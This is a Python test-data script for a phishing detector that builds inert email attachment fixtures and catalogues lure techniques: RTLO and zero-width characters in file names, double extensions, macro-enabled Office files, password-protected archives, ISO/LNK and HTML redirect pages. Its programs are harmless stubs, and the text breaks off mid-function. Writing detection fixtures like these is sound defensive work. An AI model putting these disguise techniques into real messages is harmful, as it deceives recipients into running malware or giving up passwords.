#!/usr/bin/env python3
"""Writes the attachment fixtures of the phishing corpus (issue 16): phish-att-*.eml and
legit-att-*.eml, next to this script. Their expected warning codes are in expected.tsv, under
"# Attachments (issue 16)"; `--expected` prints those lines (the @case codes below). Each set is
the attachment codes the case is made for, plus what the message analyser already found on it
before issue 16 (external-sender for every outside sender, display-name-impersonation for
« Messagerie vocale »); a legitimate case never has more than external-sender.

    python3 tests/data/phishing/make-attachment-cases.py
    python3 tests/data/phishing/make-attachment-cases.py --expected

Python 3 standard library only: every file format is written here byte by byte (zip with
ZipCrypto, 7z with LZMA2 and 7zAES, OLE2 compound files with a VBA project, ISO 9660, PE, ELF,
LNK, PDF with a real detached CMS signature, JPEG, PNG), so that two runs give the same bytes: fixed
dates, boundaries, Message-IDs, "random" bytes drawn from SHA-256 of a fixed label. (zip -P and
7z -p draw their salt and IV at random; that is why they are not called.) The archives were
checked with `unzip -t -P`, `7z t -p`, `7z l` and `bsdtar -tf`; the signature with `openssl cms
-verify`. Only the deflate and LZMA2 streams depend on the zlib / liblzma of the machine.

Every "program" in these fixtures is inert: the PE and ELF stubs only return, the scripts and
shortcuts only print a line, the macros only show a message box, and every site the lures and
pages point to is under the reserved .example top-level domain. What matters to the detector is the names and the
headers of the files, not what they would do; an inert corpus is also not taken away by an
anti-virus on a developer's machine.

What each case imitates (codes: see expected.tsv):

Phishing / malicious
  phish-att-arena-login-html      Outlook "facture" from an outside supplier; the .html attachment is
                                  a counterfeit ARENA (academy portal) login page: a form posting
                                  outside with a password field, no script.
  phish-att-impaye-zip-js         PHPMailer "relance impayé" (unpaid bill); a zip holding
                                  Facture_impayee_0426.pdf.js.
  phish-att-bon-commande-docm     A school-book publisher's order form (Outlook),
                                  Bon_de_commande_2026-2027.docm (OOXML, macroEnabled content type,
                                  word/vbaProject.bin) and « Merci d'activer le contenu (macros) ».
  phish-att-rtlo-releve           Roundcube webmail of a look-alike school, a "relevé de notes" named
                                  Releve_notes<U+202E>fdp.scr (shown as Releve_notesrcs.pdf), RFC 2231
                                  utf-8 name (name*= and filename*=), PE bytes.
  phish-att-facture-pdf-exe       Spam kit posing as Outlook Express, Facture_2026.pdf.exe (PE bytes).
  phish-att-pdf-mz                Webmail (Roundcube) "avis de paiement" facture.pdf declared
                                  application/pdf whose bytes are a PE program.
  phish-att-zip-password          Outlook, fake DRH: Documents_RH_2026.zip encrypted (ZipCrypto)
                                  holding Attestation_employeur_2026.exe, « Mot de passe : 2026 ».
  phish-att-iso-lnk               Fake furniture delivery: Bon_livraison_mobilier.iso (ISO 9660,
                                  "ImgBurn" volume) holding BON_DE_LIVRAISON_PDF.LNK.
  phish-att-svg-redirect          Bulk "message vocal" notification; an .svg whose <script> sends the
                                  browser elsewhere.
  phish-att-lnk                   A compromised colleague of another academy (ac-lille.fr, Zimbra, so the
                                  analyser trusts the sender) sends a lone shortcut
                                  Planning_des_inspections.lnk (real LNK header, PDF icon borrowed
                                  from Edge).
  phish-att-xls-vba               Fake DAF "heures supplémentaires" table: legacy .xls (OLE2 with
                                  _VBA_PROJECT_CUR/VBA/_VBA_PROJECT), « Activer la modification
                                  puis Activer le contenu ».
  phish-att-7z-vbs                Fake photocopier "Scan_0042": a 7z (LZMA2, plain header) holding
                                  Scan_0042.pdf.vbs (compare legit-att-scanner).
  phish-att-htm-refresh           Gmail, "avis de virement" .htm with a meta refresh to an outside site
                                  and a script doing the same.
  phish-att-spaces-exe            Convocation_conseil_de_discipline.pdf + 60 spaces + .exe, name in
                                  RFC 2231 continuations (filename*0/*1).
  phish-att-cyrillic-lnk          Bordereau_de_livraison.<Cyrillic er>df declared application/pdf,
                                  its bytes a Windows shortcut (LNK).
  phish-att-odt-basic             LibreOffice "formulaire voyage scolaire" .odt with a Basic/ macro
                                  library, « activez les macros ».
  phish-att-doc-english           English invoice lure, legacy Word .doc (OLE2, Macros/VBA),
                                  "click Enable Editing, then Enable Content".
  phish-att-nested-zip            A zip holding another zip holding Convocation_rectorat.hta.
  phish-att-7z-password           Fake "dossier retraite": 7z with 7zAES (names readable) holding
                                  Simulation_pension_2026.pdf.exe, « Code : 8472 ».
  phish-att-xlsm                  Fake "état de frais" Etat_frais_deplacement_T4.xlsm, no request to
                                  enable anything in the text.
  phish-att-html-form-script      English "Microsoft 365 shared a file" lure: Salaires_2026.xlsx.html,
                                  a sign-in form posting outside (password field), an onsubmit
                                  handler and a <script>.
  phish-att-elf-pdf               Note_de_service_2026-114.pdf declared application/pdf whose bytes
                                  are an ELF program.
  phish-att-desktop               Linux launcher Convocation_CAPPEI.pdf.desktop (a "[Desktop
                                  Entry]" text file).
  phish-att-shebang-no-ext        Sylpheed, "Facture_0426" without an extension, declared
                                  application/pdf, bytes a #! shell script.
  phish-att-fullwidth-dot         Roundcube, Facture_telephonie_novembre<U+FF0E>pdf (FULLWIDTH FULL STOP:
                                  it looks like .pdf but has no extension), declared application/pdf,
                                  PE bytes.
  phish-att-zero-width-hta        Thunderbird from a compromised laposte.net account,
                                  Rele<U+200B>ve_absences_novembre.hta (a zero-width space inside the
                                  name; RFC 2047 Q name= and RFC 2231 filename*=), an HTML application.

Legitimate (no attachment code may fire)
  legit-att-dsden-convocation     DSDEN de la Somme, convocation PDF (real PDF: objects, xref, trailer).
  legit-att-bulletin-paie-signe   Rectorat paie, signed payslip PDF (/Type /Sig, /ByteRange, a real
                                  detached CMS signature by a test certificate).
  legit-att-travaux-eleves-zip    Colleague, zip of student work (.odt, .pdf, .png, .txt, folders,
                                  UTF-8 names with a dot inside: "Exposé_Lucas.M.odt").
  legit-att-odt-colleague         Colleague (Thunderbird), an .odt without macros (LibreOffice layout:
                                  mimetype first, Configurations2/, Thumbnails/).
  legit-att-docx-mairie           Mairie (Outlook), a .docx agreement without macros.
  legit-att-xlsx-budget           Gestionnaire (Zimbra webmail), an .xlsx budget, no macros.
  legit-att-ics-invitation        Colleague, invitation as a text/calendar invite.ics attachment.
  legit-att-scanner               Canon iR-ADV C5535 scan to mail: a PDF holding a JPEG, one line of text.
  legit-att-pptx                  Colleague, a .pptx presentation.
  legit-att-html-newsletter       Réseau Canopé, an exported HTML newsletter as attachment: links,
                                  CSS, a meta Content-Type; no form, no script, no refresh.
  legit-att-parent-photo-gmail    Parent via Gmail, a .png photo.
  legit-att-thunderbird-accents   Colleague (Thunderbird), « Compte-rendu conseil d'école.pdf » in
                                  RFC 2231 utf-8.
  legit-att-outlook-inline-xlsx   Coach company (Outlook): image001.png inline in the signature + an
                                  .xlsx quote.
  legit-att-zip-password-separate Vie scolaire, encrypted zip of PDF report cards; the password goes
                                  by SMS, it is NOT in the mail: no attachment-encrypted-archive (and
                                  nothing else: the members are PDFs).
  legit-att-activez-compte        DANE, « activez votre compte » (an account, not macros) with a PDF
                                  guide: no enable-content-request.
  legit-att-iphone-nfd            Parent via iPhone Mail, Certificat_médical.jpg with its name in
                                  decomposed Unicode (e + U+0301), as macOS/iOS write it: combining
                                  accents are not deceptive characters.
  legit-att-xls-sans-macros       Secretariat (Outlook), a legacy OLE2 .xls export from SIECLE with no
                                  VBA project (Workbook + SummaryInformation streams only): an
                                  OLE2 file is not a macro by itself.
"""

import base64
import hashlib
import os
import quopri
import struct
import sys
import zlib
import lzma

HERE = os.path.dirname(os.path.abspath(__file__))


def det_bytes(label, n):
    """n "random" bytes, the same on every run."""
    out = b""
    counter = 0
    while len(out) < n:
        out += hashlib.sha256(f"{label}/{counter}".encode()).digest()
        counter += 1
    return out[:n]


# ----------------------------------------------------------------------------------------------
# CRC-32 (the byte-wise update ZipCrypto needs)

CRC_TABLE = []
for _i in range(256):
    _c = _i
    for _ in range(8):
        _c = (_c >> 1) ^ 0xEDB88320 if _c & 1 else _c >> 1
    CRC_TABLE.append(_c)


def crc_byte(crc, b):
    return CRC_TABLE[(crc ^ b) & 0xFF] ^ (crc >> 8)


# ----------------------------------------------------------------------------------------------
# ZIP (PKWARE APPNOTE), optionally with traditional PKWARE encryption (ZipCrypto)

def dos_datetime(dt):
    year, month, day, hour, minute, second = dt
    return ((hour << 11) | (minute << 5) | (second // 2)), (((year - 1980) << 9) | (month << 5) | day)


class ZipCrypto:
    def __init__(self, password):
        self.k = [0x12345678, 0x23456789, 0x34567890]
        for b in password.encode():
            self.update(b)

    def update(self, b):
        k0 = crc_byte(self.k[0], b)
        k1 = (self.k[1] + (k0 & 0xFF)) & 0xFFFFFFFF
        k1 = (k1 * 134775813 + 1) & 0xFFFFFFFF
        k2 = crc_byte(self.k[2], k1 >> 24)
        self.k = [k0, k1, k2]

    def encrypt(self, data):
        out = bytearray()
        for p in data:
            t = (self.k[2] | 2) & 0xFFFF
            out.append(p ^ (((t * (t ^ 1)) >> 8) & 0xFF))
            self.update(p)
        return bytes(out)


def make_zip(entries, *, password=None, system=0, comment=b""):
    """entries: (name, data or None for a folder, (Y, M, D, h, m, s), method) tuples; method 8
    (deflate) or 0 (stored). system 0 = MS-DOS/Windows (Explorer, Office), 3 = Unix (Info-ZIP,
    LibreOffice writes 0 too)."""
    local = bytearray()
    central = bytearray()
    for name, data, dt, method in entries:
        is_dir = data is None
        data = b"" if is_dir else data
        raw_name = name.encode("utf-8")
        flags = 0x800 if any(c > 0x7F for c in raw_name) else 0
        crc = zlib.crc32(data)
        if method == 8 and not is_dir:
            co = zlib.compressobj(9, zlib.DEFLATED, -15)
            payload = co.compress(data) + co.flush()
            flags |= 0x2  # maximum compression
        else:
            method = 0
            payload = data
        mtime, mdate = dos_datetime(dt)
        if password is not None and not is_dir:
            flags |= 0x1
            zc = ZipCrypto(password)
            header = det_bytes("zipcrypto/" + name, 11) + bytes([crc >> 24])
            payload = zc.encrypt(header) + zc.encrypt(payload)
        version = 20
        offset = len(local)
        local += struct.pack("<IHHHHHIIIHH", 0x04034B50, version, flags, method, mtime, mdate, crc,
                             len(payload), len(data), len(raw_name), 0) + raw_name + payload
        if system == 3:
            ext_attr = ((0o40755 if is_dir else 0o100644) << 16) | (0x10 if is_dir else 0)
            made_by = (3 << 8) | 30
        else:
            ext_attr = 0x10 if is_dir else 0x20
            made_by = 20
        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, made_by, version, flags, method, mtime,
                               mdate, crc, len(payload), len(data), len(raw_name), 0, 0, 0, 0, ext_attr,
                               offset) + raw_name
    count = len(entries)
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, len(central), len(local), len(comment))
    return bytes(local + central + end + comment)


# ----------------------------------------------------------------------------------------------
# AES-256 (encryption only, for 7zAES), FIPS-197

def _xtime(a):
    a <<= 1
    return (a ^ 0x11B) if a & 0x100 else a


def _gmul(a, b):
    r = 0
    while b:
        if b & 1:
            r ^= a
        a = _xtime(a)
        b >>= 1
    return r


def _make_sbox():
    sbox = [0] * 256
    for x in range(256):
        inv = 0
        if x:
            for y in range(1, 256):
                if _gmul(x, y) == 1:
                    inv = y
                    break
        s = inv
        r = inv
        for _ in range(4):
            r = ((r << 1) | (r >> 7)) & 0xFF
            s ^= r
        sbox[x] = s ^ 0x63
    return sbox


SBOX = _make_sbox()


def aes256_key_schedule(key):
    words = [list(key[i:i + 4]) for i in range(0, 32, 4)]
    rcon = 1
    for i in range(8, 60):
        t = list(words[i - 1])
        if i % 8 == 0:
            t = t[1:] + t[:1]
            t = [SBOX[b] for b in t]
            t[0] ^= rcon
            rcon = _xtime(rcon)
        elif i % 8 == 4:
            t = [SBOX[b] for b in t]
        words.append([words[i - 8][j] ^ t[j] for j in range(4)])
    return [sum(words[r * 4:r * 4 + 4], []) for r in range(15)]


def aes_encrypt_block(round_keys, block):
    s = [block[i] ^ round_keys[0][i] for i in range(16)]
    for rnd in range(1, 15):
        s = [SBOX[b] for b in s]
        # state is column-major: s[r + 4c]
        s = [s[(r + 4 * ((c + r) % 4))] for c in range(4) for r in range(4)]
        s = [s[i] for i in range(16)]
        if rnd != 14:
            m = []
            for c in range(4):
                a = s[4 * c:4 * c + 4]
                m += [_gmul(a[0], 2) ^ _gmul(a[1], 3) ^ a[2] ^ a[3],
                      a[0] ^ _gmul(a[1], 2) ^ _gmul(a[2], 3) ^ a[3],
                      a[0] ^ a[1] ^ _gmul(a[2], 2) ^ _gmul(a[3], 3),
                      _gmul(a[0], 3) ^ a[1] ^ a[2] ^ _gmul(a[3], 2)]
            s = m
        s = [s[i] ^ round_keys[rnd][i] for i in range(16)]
    return bytes(s)


def aes256_cbc_encrypt(key, iv, data):
    assert len(data) % 16 == 0
    rk = aes256_key_schedule(key)
    out = bytearray()
    prev = iv
    for i in range(0, len(data), 16):
        block = bytes(a ^ b for a, b in zip(data[i:i + 16], prev))
        prev = aes_encrypt_block(rk, block)
        out += prev
    return bytes(out)


# ----------------------------------------------------------------------------------------------
# 7z (7-Zip's 7zFormat.txt): one solid folder, LZMA2, optionally 7zAES; the header is written
# plain (7z a -mhc=off), so the file names can be listed without an LZMA decoder.

def _7z_number(v):
    if v < 0x80:
        return bytes([v])
    for n in range(1, 9):
        if n == 8 or v < (1 << (8 * n + 7 - n)):
            first = (0xFF << (8 - n)) & 0xFF
            if n < 8:
                first |= v >> (8 * n)
            return bytes([first]) + (v & ((1 << (8 * n)) - 1)).to_bytes(n, "little")
    raise ValueError(v)


def _filetime(dt):
    import datetime
    t = datetime.datetime(*dt, tzinfo=datetime.timezone.utc)
    return int((t - datetime.datetime(1601, 1, 1, tzinfo=datetime.timezone.utc)).total_seconds()) * 10_000_000


def make_7z(files, *, password=None):
    """files: (name, data, (Y, M, D, h, m, s) UTC) tuples."""
    N = _7z_number
    solid = b"".join(data for _, data, _ in files)
    dict_size = 1 << 20
    packed = lzma.compress(solid, format=lzma.FORMAT_RAW,
                           filters=[{"id": lzma.FILTER_LZMA2, "preset": 9, "dict_size": dict_size}])
    lzma2_coder = bytes([0x21, 0x21, 0x01, 16])  # id 21 (LZMA2), 1 property byte: 1 MiB dictionary
    if password is None:
        coders = N(1) + lzma2_coder
        unpack_sizes = N(len(solid))
        pack = packed
        bind = b""
    else:
        iv = det_bytes("7zaes-iv/" + files[0][0], 16)
        cycles = 19
        material = b"".join(password.encode("utf-16-le") + struct.pack("<Q", i) for i in range(1 << cycles))
        key = hashlib.sha256(material).digest()
        padded = packed + b"\0" * (-len(packed) % 16)
        pack = aes256_cbc_encrypt(key, iv, padded)
        aes_props = bytes([cycles | 0x40, 0x0F]) + iv  # no salt, 16-byte IV
        aes_coder = bytes([0x24]) + bytes([0x06, 0xF1, 0x07, 0x01]) + N(len(aes_props)) + aes_props
        coders = N(2) + lzma2_coder + aes_coder
        bind = N(0) + N(1)  # LZMA2's input <- AES's output
        unpack_sizes = N(len(solid)) + N(len(packed))
    header = bytearray()
    header += b"\x01"  # kHeader
    header += b"\x04"  # kMainStreamsInfo
    header += b"\x06" + N(0) + N(1) + b"\x09" + N(len(pack)) + b"\x00"  # kPackInfo
    header += b"\x07" + b"\x0B" + N(1) + b"\x00" + coders + bind  # kUnPackInfo, kFolder, 1, not external
    header += b"\x0C" + unpack_sizes + b"\x00"  # kCodersUnPackSize, kEnd
    header += b"\x08" + b"\x0D" + N(len(files))  # kSubStreamsInfo, kNumUnPackStream
    if len(files) > 1:
        header += b"\x09" + b"".join(N(len(d)) for _, d, _ in files[:-1])
    header += b"\x0A\x01" + b"".join(struct.pack("<I", zlib.crc32(d)) for _, d, _ in files)
    header += b"\x00"  # end of kSubStreamsInfo
    header += b"\x00"  # end of kMainStreamsInfo
    header += b"\x05" + N(len(files))  # kFilesInfo
    names = b"\x00" + b"".join(n.encode("utf-16-le") + b"\0\0" for n, _, _ in files)
    header += b"\x11" + N(len(names)) + names
    times = b"\x01\x00" + b"".join(struct.pack("<Q", _filetime(t)) for _, _, t in files)
    header += b"\x14" + N(len(times)) + times
    attrs = b"\x01\x00" + b"".join(struct.pack("<I", 0x20) for _ in files)  # FILE_ATTRIBUTE_ARCHIVE
    header += b"\x15" + N(len(attrs)) + attrs
    header += b"\x00"  # end of kFilesInfo
    header += b"\x00"  # end of kHeader
    header = bytes(header)
    start = struct.pack("<QQI", len(pack), len(header), zlib.crc32(header))
    return b"7z\xbc\xaf\x27\x1c\x00\x04" + struct.pack("<I", zlib.crc32(start)) + start + pack + header


# ----------------------------------------------------------------------------------------------
# OLE2 / Compound File Binary (MS-CFB), version 3 (512-byte sectors), with a mini stream

ENDOFCHAIN, FREESECT, FATSECT, NOSTREAM = 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD, 0xFFFFFFFF


def make_cfb(tree, *, root_clsid=b"\0" * 16, mtime=None):
    """tree: {name: bytes (a stream) or dict (a storage)}. Streams under 4096 bytes go to the
    mini stream, as the format requires."""
    entries = []  # dicts: name, type, data, children(list of indexes), clsid

    def add(name, node, clsid=b"\0" * 16):
        idx = len(entries)
        if isinstance(node, dict):
            entries.append({"name": name, "type": 1, "children": [], "clsid": clsid, "data": b""})
            for child_name, child in node.items():
                entries[idx]["children"].append(add(child_name, child))
        else:
            entries.append({"name": name, "type": 2, "children": [], "clsid": b"\0" * 16, "data": node})
        return idx

    add("Root Entry", tree, root_clsid)
    entries[0]["type"] = 5

    def key(i):
        n = entries[i]["name"]
        return (len(n), n.upper())

    for e in entries:
        e.update(left=NOSTREAM, right=NOSTREAM, child=NOSTREAM)

    def balanced(ids):  # a balanced binary search tree of the siblings; returns its root
        if not ids:
            return NOSTREAM
        mid = len(ids) // 2
        root = ids[mid]
        entries[root]["left"] = balanced(ids[:mid])
        entries[root]["right"] = balanced(ids[mid + 1:])
        return root

    for e in entries:
        if e["children"]:
            e["child"] = balanced(sorted(e["children"], key=key))

    # Mini stream: small streams in 64-byte mini sectors.
    mini = bytearray()
    minifat = []
    for e in entries:
        if e["type"] == 2 and len(e["data"]) < 4096:
            e["small"] = True
            n = max(1, -(-len(e["data"]) // 64)) if e["data"] else 0
            e["start"] = len(minifat) if n else ENDOFCHAIN
            for k in range(n):
                minifat.append(len(minifat) + 1 if k < n - 1 else ENDOFCHAIN)
            mini += e["data"] + b"\0" * (n * 64 - len(e["data"]))
        else:
            e["small"] = False
    sectors = []  # list of (kind, bytes of 512)
    fat = []

    def alloc(data, kind):
        n = max(1, -(-len(data) // 512))
        first = len(sectors)
        for k in range(n):
            sectors.append((kind, data[k * 512:(k + 1) * 512].ljust(512, b"\0")))
            fat.append(first + k + 1 if k < n - 1 else ENDOFCHAIN)
        return first

    # One FAT sector (up to 128 sectors, 64 KB) is plenty here.
    sectors.append(("fat", None))
    fat.append(FATSECT)
    dir_count = -(-len(entries) // 4)
    dir_first = len(sectors)
    for k in range(dir_count):
        sectors.append(("dir", None))
        fat.append(dir_first + k + 1 if k < dir_count - 1 else ENDOFCHAIN)
    minifat_bytes = b"".join(struct.pack("<I", v) for v in minifat)
    minifat_bytes += struct.pack("<I", FREESECT) * (-len(minifat) % 128)
    minifat_first = alloc(minifat_bytes, "minifat") if minifat else ENDOFCHAIN
    mini_first = alloc(bytes(mini), "mini") if mini else ENDOFCHAIN
    for e in entries:
        if e["type"] == 2 and not e["small"]:
            e["start"] = alloc(e["data"], "stream")
    assert len(sectors) <= 128, "one FAT sector only"
    entries[0]["start"] = mini_first
    entries[0]["size"] = len(mini)
    for e in entries:
        if e["type"] == 1:
            e["start"], e["size"] = 0, 0
        elif e["type"] == 2:
            e["size"] = len(e["data"])
            if e["size"] == 0:
                e["start"] = ENDOFCHAIN
    ft = 0 if mtime is None else _filetime(mtime)
    dir_bytes = bytearray()
    for i, e in enumerate(entries):
        name = e["name"].encode("utf-16-le") + b"\0\0"
        assert len(name) <= 64
        times = struct.pack("<QQ", ft if e["type"] == 1 else 0, ft if e["type"] == 1 else 0)
        dir_bytes += (name.ljust(64, b"\0") + struct.pack("<HBB", len(name), e["type"], 1) +
                      struct.pack("<III", e["left"], e["right"], e["child"]) + e["clsid"] +
                      struct.pack("<I", 0) + times + struct.pack("<IQ", e["start"], e["size"]))
    while len(dir_bytes) < dir_count * 512:  # unused entries
        dir_bytes += b"\0" * 64 + struct.pack("<HBB", 0, 0, 0) + struct.pack("<III", NOSTREAM, NOSTREAM,
                                                                             NOSTREAM) + b"\0" * 52
    fat_bytes = b"".join(struct.pack("<I", v) for v in fat) + struct.pack("<I", FREESECT) * (128 - len(fat))
    header = (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 16 +
              struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + b"\0" * 6 +
              struct.pack("<IIIIIIIII", 0, 1, dir_first, 0, 4096, minifat_first,
                          -(-len(minifat) // 128) if minifat else 0, ENDOFCHAIN, 0) +
              struct.pack("<I", 0) + struct.pack("<I", FREESECT) * 108)
    assert len(header) == 512
    out = bytearray(header)
    dir_index = 0
    for kind, data in sectors:
        if kind == "fat":
            out += fat_bytes
        elif kind == "dir":
            out += dir_bytes[dir_index * 512:(dir_index + 1) * 512]
            dir_index += 1
        else:
            out += data
    return bytes(out)


# VBA projects (MS-OVBA): module sources compressed (literal tokens only, a valid
# CompressedContainer), a dir stream with its records, the _VBA_PROJECT stream and the PROJECT text.

def ovba_compress(data):
    out = bytearray(b"\x01")
    for start in range(0, len(data), 4096):
        chunk = data[start:start + 4096]
        body = bytearray()
        for i in range(0, len(chunk), 8):
            body += b"\x00" + chunk[i:i + 8]
        assert len(body) + 2 <= 4098, "a chunk of literals must fit"
        out += struct.pack("<H", 0xB000 | (len(body) + 2 - 3)) + body
    return bytes(out)


def vba_storage(project_name, modules, host):
    """modules: (name, kind 'document' or 'procedural', source text). Returns the tree of the
    VBA project: PROJECT, PROJECTwm, VBA/{_VBA_PROJECT, dir, modules…}."""
    def rec(rid, data):
        return struct.pack("<HI", rid, len(data)) + data

    d = bytearray()
    d += rec(0x0001, struct.pack("<I", 3))          # PROJECTSYSKIND: 64-bit Windows
    d += rec(0x004A, struct.pack("<I", 2))          # PROJECTCOMPATVERSION
    d += rec(0x0002, struct.pack("<I", 0x040C))     # PROJECTLCID: fr-FR
    d += rec(0x0014, struct.pack("<I", 0x040C))     # PROJECTLCIDINVOKE
    d += rec(0x0003, struct.pack("<H", 1252))       # PROJECTCODEPAGE
    d += rec(0x0004, project_name.encode("cp1252"))  # PROJECTNAME
    d += rec(0x0005, b"") + rec(0x0040, b"")        # PROJECTDOCSTRING (+ unicode)
    d += rec(0x0006, b"") + rec(0x003D, b"")        # PROJECTHELPFILEPATH
    d += rec(0x0007, struct.pack("<I", 0))          # PROJECTHELPCONTEXT
    d += rec(0x0008, struct.pack("<I", 0))          # PROJECTLIBFLAGS
    d += struct.pack("<HIIH", 0x0009, 4, 1425294446, 17)  # PROJECTVERSION
    d += rec(0x000C, b"") + rec(0x003C, b"")        # PROJECTCONSTANTS
    ref = b"*\\G{00020430-0000-0000-C000-000000000046}#2.0#0#C:\\Windows\\System32\\stdole2.tlb#OLE Automation"
    d += rec(0x0016, b"stdole") + rec(0x003E, "stdole".encode("utf-16-le"))  # REFERENCENAME
    d += struct.pack("<HII", 0x000D, 4 + len(ref) + 6, len(ref)) + ref + struct.pack("<IH", 0, 0)
    d += rec(0x000F, struct.pack("<H", len(modules)))  # PROJECTMODULES
    d += rec(0x0013, struct.pack("<H", 0xFFFF))     # PROJECTCOOKIE
    streams = {}
    for name, kind, source in modules:
        d += rec(0x0019, name.encode("cp1252")) + rec(0x0047, name.encode("utf-16-le"))
        d += rec(0x001A, name.encode("cp1252")) + rec(0x0032, name.encode("utf-16-le"))
        d += rec(0x001C, b"") + rec(0x0048, b"")
        d += rec(0x0031, struct.pack("<I", 0))      # MODULEOFFSET: the source starts the stream
        d += rec(0x001E, struct.pack("<I", 0))
        d += rec(0x002C, struct.pack("<H", 0xFFFF))
        d += rec(0x0022 if kind == "document" else 0x0021, b"")
        d += rec(0x002B, b"")                       # module terminator
        streams[name] = ovba_compress(source.replace("\n", "\r\n").encode("cp1252"))
    d += struct.pack("<HI", 0x0010, 0)              # dir terminator
    vba = {"_VBA_PROJECT": b"\xcc\x61\xff\xff\x00\x00\x00", "dir": ovba_compress(bytes(d))}
    vba.update(streams)
    lines = ['ID="{5B4E2A31-8C3D-4F1E-9A7B-2D6C0E8F1A35}"']
    for name, kind, _ in modules:
        lines.append(f"Document={name}/&H00000000" if kind == "document" else f"Module={name}")
    lines += [f'Name="{project_name}"', 'HelpContextID="0"', 'VersionCompatible32="393222000"',
              'CMG="0E0CA3B6A7B6A7B6A7B6A7"', 'DPB="5C5EF1E4F2E4F2"', 'GC="2E2C83963B973B9734"', "",
              "[Host Extender Info]", "&H00000001={3832D640-CF90-11CF-8E43-00A0C911005A};VBE;&H00000000",
              "", "[Workspace]"]
    lines += [f"{name}=0, 0, 0, 0, C" for name, _, _ in modules]
    project = ("\r\n".join(lines) + "\r\n").encode("cp1252")
    wm = b"".join(n.encode("cp1252") + b"\0" + n.encode("utf-16-le") + b"\0\0" for n, _, _ in modules) + b"\0\0"
    return {"PROJECT": project, "PROJECTwm": wm, "VBA": vba}


INERT_MACRO = ('Attribute VB_Name = "{name}"\n'
               "' Fixture de test AmiensMail : macro inerte (elle n'affiche qu'un message).\n"
               "Sub AfficherMessage()\n"
               '    MsgBox "Fixture de test AmiensMail", vbInformation\n'
               "End Sub\n")


def document_module(name, host):
    base = 'Attribute VB_Name = "{n}"\nAttribute VB_Base = "{b}"\nAttribute VB_GlobalNameSpace = False\n' \
           "Attribute VB_Creatable = False\nAttribute VB_PredeclaredId = True\nAttribute VB_Exposed = True\n" \
           "Attribute VB_TemplateDerived = False\nAttribute VB_Customizable = True\n"
    clsid = "0{00020820-0000-0000-C000-000000000046}" if host == "excel" else "1Normal.ThisDocument"
    return base.format(n=name, b=clsid)


def biff_record(rtype, data=b""):
    return struct.pack("<HH", rtype, len(data)) + data


def xls_workbook_stream(sheet_title, labels):
    """A short BIFF8 Workbook stream: globals (BOF, CODEPAGE, WINDOW1, FONT, BOUNDSHEET, EOF) and
    one sheet (BOF, DIMENSIONS, LABEL cells, EOF)."""
    bof_globals = biff_record(0x0809, struct.pack("<HHHHII", 0x0600, 0x0005, 0x6C59, 0x07CD, 0x000100C1, 0x00000406))
    globals_ = (bof_globals + biff_record(0x0042, struct.pack("<H", 1200)) +
                biff_record(0x003D, struct.pack("<HHHHHHHHH", 0, 0, 0x4000, 0x2000, 0x38, 0, 0, 1, 0x258)) +
                biff_record(0x0031, struct.pack("<HHHHHBBBB", 0xC8, 0, 0x7FFF, 0x190, 0, 0, 0, 0, 0) +
                            b"\x05\x00Arial"))
    sheet_name = sheet_title.encode("utf-16-le")
    boundsheet_len = 4 + 8 + len(sheet_title)
    globals_len = len(globals_) + 4 + boundsheet_len + 4
    globals_ += biff_record(0x0085, struct.pack("<IBBBB", globals_len, 0, 0, len(sheet_title), 1) + sheet_name)
    globals_ += biff_record(0x000A)

    def label(row, col, text):
        raw = text.encode("utf-16-le")
        return biff_record(0x0204, struct.pack("<HHHHB", row, col, 0x0F, len(text), 1) + raw)

    cols = max(len(row) for row in labels)
    cells = b"".join(label(r, c, text) for r, row in enumerate(labels) for c, text in enumerate(row) if text)
    sheet = (biff_record(0x0809, struct.pack("<HHHHII", 0x0600, 0x0010, 0x6C59, 0x07CD, 0x000100C1, 0x00000406)) +
             biff_record(0x0200, struct.pack("<IIHHH", 0, len(labels), 0, cols, 0)) + cells + biff_record(0x000A))
    data = globals_ + sheet
    return data + b"\0" * (4096 - len(data)) if len(data) < 4096 else data  # Excel pads to 4096


def word_document_stream(text):
    """The start of a Word 97 WordDocument stream: a FIB (wIdent 0xA5EC, nFib 0x00C1) then the text."""
    fib = struct.pack("<HHHHHH", 0xA5EC, 0x00C1, 0x0000, 0x0409, 0x0000, 0x0200) + b"\0" * 20
    fib = fib.ljust(0x400, b"\0")
    body = text.replace("\n", "\r").encode("cp1252")
    data = fib + body
    return data.ljust(4096, b"\0")


def summary_information(title, author, app_name, when):
    """The "\x05SummaryInformation" property set (MS-OLEPS): code page, title, author, application,
    creation and last-save times."""
    def lpstr(text):
        raw = text.encode("cp1252") + b"\0"
        raw += b"\0" * (-len(raw) % 4)
        return struct.pack("<II", 0x1E, len(text) + 1) + raw

    ft = struct.pack("<IQ", 0x40, _filetime(when))  # VT_FILETIME
    props = [(1, struct.pack("<IhH", 2, 1252, 0)), (2, lpstr(title)), (4, lpstr(author)),
             (18, lpstr(app_name)), (12, ft), (13, ft)]
    offset = 8 + 8 * len(props)
    table = b""
    values = b""
    for pid, value in props:
        table += struct.pack("<II", pid, offset + len(values))
        values += value
    section = struct.pack("<II", 8 + len(table) + len(values), len(props)) + table + values
    fmtid = bytes.fromhex("e0859ff2f94f6810ab9108002b27b3d9")
    header = struct.pack("<HHI16sI", 0xFFFE, 0, 0x00020006, b"\0" * 16, 1) + fmtid + struct.pack("<I", 48)
    return header + section


# ----------------------------------------------------------------------------------------------
# Programs: PE32 and ELF stubs that only return, Windows shortcuts (MS-SHLLINK)

def make_pe(timestamp):
    dos = bytearray(0x80)
    dos[0:2] = b"MZ"
    struct.pack_into("<HHHHHHHHHH", dos, 2, 0x90, 3, 0, 4, 0, 0xFFFF, 0, 0xB8, 0, 0)
    struct.pack_into("<H", dos, 0x18, 0x40)
    struct.pack_into("<I", dos, 0x3C, 0x80)
    stub = bytes.fromhex("0e1fba0e00b409cd21b8014ccd21") + b"This program cannot be run in DOS mode.\r\r\n$"
    dos[0x40:0x40 + len(stub)] = stub
    coff = struct.pack("<4sHHIIIHH", b"PE\0\0", 0x014C, 1, timestamp, 0, 0, 0xE0, 0x0102)
    opt = struct.pack("<HBBIIIIIIIIIHHHHHHIIIIHHIIIIII", 0x10B, 14, 36, 0x200, 0, 0, 0x1000, 0x1000, 0x2000,
